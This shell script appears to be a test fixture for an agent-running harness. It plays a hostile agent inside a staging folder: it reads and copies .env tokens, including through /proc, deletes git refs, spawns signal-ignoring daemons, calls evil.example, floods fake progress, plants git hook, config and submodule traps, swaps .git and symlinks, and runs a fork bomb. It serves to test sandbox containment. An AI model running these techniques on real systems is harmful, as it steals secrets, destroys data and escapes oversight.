#!/bin/sh
# A hostile agent, and a hostile test file: the same program. As an agent its task names the acts, such as `act_reads`;
# as a test (there is no prompt) the file `acts` beside it does. What it could do is noted where the story looks.
# Paths and limits come from the stage: everything it aims at is a throwaway folder of the story.
set -u
notes=${OVERNIGHT_CACHES%%:*}
stage=${notes%/notes}
if [ -n "${OVERNIGHT_PROMPT:-}" ]; then
    who=agent-$OVERNIGHT_TASK words=$(cat)
else
    who=check words=$(cat acts)
fi
is() { case "$words" in *"act_$1"*) return 0 ;; *) return 1 ;; esac; }
could() { echo "$1" >> "$notes/could-$who"; }
echo "PROGRESS 10 on my way"

if is plants_a_test; then
    # The attack is the test file: it is in the result and runs as the check.
    cp "$0" check.sh
    echo "$words" | sed 's/act_plants_a_test//' > acts
    ln -s "$stage/outside/kept" out-file
    ln -s "$stage/outside" out-folder
    ln -s "$stage/src/app/README.md" out-readme
    exit 0
fi
if is writes; then
    echo owned > "$stage/src/app/owned" && could "write into the checkout"
    echo owned >> "$stage/src/app/README.md" && could "change the checkout"
    echo owned > "$stage/outside/owned" && could "write outside"
fi
if is reads; then
    cat "$stage/home/.env" "$stage/overnight.toml" && could "read the token"
    cp "$stage/home/.env" stolen && could "take the token along"
    cat /proc/[0-9]*/environ /proc/[0-9]*/root"$stage"/home/.env | tr '\0' '\n' | grep canary && could "read it elsewhere"
fi
if is deletes; then
    for vault in "$stage"/home/vaults/*.git; do
        [ -d "$vault" ] && could "see a vault"
        git --git-dir="$vault" for-each-ref --format='delete %(refname)' refs/overnight/overnight_* |
            git --git-dir="$vault" update-ref --stdin
        rm -rf "$vault/refs/overnight"/overnight_* && [ -d "$vault" ] && could "delete refs"
    done
fi
if is daemon; then
    # Without the mark in its environment, without its session, without a parent that lives, deaf to requests.
    env -i PATH="$PATH" setsid sh -c 'trap "" TERM HUP INT
        (trap "" TERM HUP INT; echo "$1" > "$2"; while :; do sleep 1; done) & exit 0' \
        "daemon of $stage" "$stage" "$notes/daemon-$who" &
    until [ -s "$notes/daemon-$who" ]; do sleep 0.02; done
fi
if is connects; then
    python3 - "$(cat "$notes/port")" "$notes/could-$who" <<'PY'
import os, socket, sys, urllib.request
try:
    s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5)
    s.sendall(b'stolen goods'); s.close()
    open(sys.argv[2], 'a').write('connect\n')
except OSError:
    pass
# Where there is a proxy it is asked politely.
proxy = os.environ.get('https_proxy')
if proxy:
    try:
        urllib.request.urlopen('https://evil.example/', timeout=5)
    except Exception:
        pass
PY
fi
if is prints; then
    # Half of it one line without an end, a quarter claims of progress, a quarter no text at all.
    if is prints_much; then bytes=$(cat "$notes/most-bytes-much"); else bytes=$(cat "$notes/most-bytes"); fi
    head -c $((bytes / 2)) /dev/zero
    yes "PROGRESS 50 all is well" | head -c $((bytes / 4))
    yes "$(printf '\377\376\200 {\033[2J')" | head -c $((bytes / 4))
    echo
fi
if is reports; then
    # Hundreds of thousands of steps, each another one.
    seq 1 400000 | sed 's/.*/PROGRESS 50 step & of my long way/'
fi
if is tests; then
    # A test suite without end, for whoever counts along.
    seq 1 200000 | sed 's/.*/not ok & - it does what it should in way &/'
fi
trap_program="$notes/trap.sh"
if is plants; then
    # Whatever git runs by configuration runs the trap; nothing here calls git after this.
    mkdir -p .git/hooks
    for hook in applypatch-msg commit-msg fsmonitor-watchman post-checkout post-commit post-index-change post-merge \
        post-rewrite pre-applypatch pre-auto-gc pre-commit pre-push pre-rebase prepare-commit-msg reference-transaction \
        update post-update pre-receive post-receive; do
        printf '#!/bin/sh\nexec sh "%s" %s\n' "$trap_program" "$hook" > ".git/hooks/$hook"
        chmod +x ".git/hooks/$hook"
    done
    for config in .git/config "$HOME/.gitconfig" .gitconfig; do
        cat >> "$config" <<CONFIG
[core]
	fsmonitor = "sh '$trap_program' fsmonitor"
	sshCommand = "sh '$trap_program' ssh"
	pager = "sh '$trap_program' pager"
	editor = "sh '$trap_program' editor"
	hooksPath = "$notes/hooks"
[filter "evil"]
	clean = "sh '$trap_program' clean"
	smudge = "sh '$trap_program' smudge"
	process = "sh '$trap_program' process"
	required = true
[diff "evil"]
	textconv = "sh '$trap_program' textconv"
	command = "sh '$trap_program' diff"
[diff]
	external = "sh '$trap_program' external"
[merge "evil"]
	driver = "sh '$trap_program' merge"
[credential]
	helper = "!sh '$trap_program' credential"
[gpg]
	program = "$trap_program"
[include]
	path = "$notes/more.gitconfig"
CONFIG
    done
    echo '* filter=evil diff=evil merge=evil' > .gitattributes
    printf '[submodule "evil"]\n\tpath = sub\n\turl = ext::sh %s\n\tupdate = !sh %s\n' "$trap_program" "$trap_program" \
        > .gitmodules
    [ -d "$notes/poisoned" ] || cp -R . "$notes/poisoned"
fi
if is links; then
    ln -s "$stage/outside/kept" out-file
    ln -s "$stage/outside" out-folder
    ln -s "$stage/src/app/README.md" out-readme
    # The next one to write here follows them: the host, or the check below.
fi
if is follows; then
    for link in out-file out-folder/new out-readme; do
        echo "through a link" > "$link" && could "write through $link"
    done
fi
# Last, for git is no use after it.
if is swaps_a_link; then rm -rf .git && ln -s "$stage/src/app/.git" .git; fi
if is swaps_a_file; then
    mv .git real && echo "gitdir: $stage/src/app/.git" > .git
fi
if is swaps_a_folder; then
    rm -rf .git && mkdir -p .git/refs .git/objects && echo "ref: refs/heads/main" > .git/HEAD
    printf '[core]\n\tworktree = %s\n\tfsmonitor = "sh %s worktree"\n' "$stage/src/app" "$trap_program" > .git/config
    echo "$stage/src/app/.git" > .git/commondir
fi
# After it nothing can be started any more.
if is forks; then
    python3 - "$(cat "$notes/most-forks")" "$notes/forks-$who" <<'PY'
import os, signal, sys, time
made = 0
for i in range(int(sys.argv[1])):
    try:
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
            time.sleep(600); os._exit(0)
        made += 1
    except OSError:
        break
open(sys.argv[2], 'w').write(str(made))
os._exit(0)
PY
fi
if is stays; then
    trap '' TERM HUP INT
    : > "$notes/held/${OVERNIGHT_TASK:-check}"
    while [ -d "$notes/held" ]; do sleep 0.2; done
fi
echo "work of $who" > "work-$who.txt"
echo "ok 1 - all is well"
exit 0
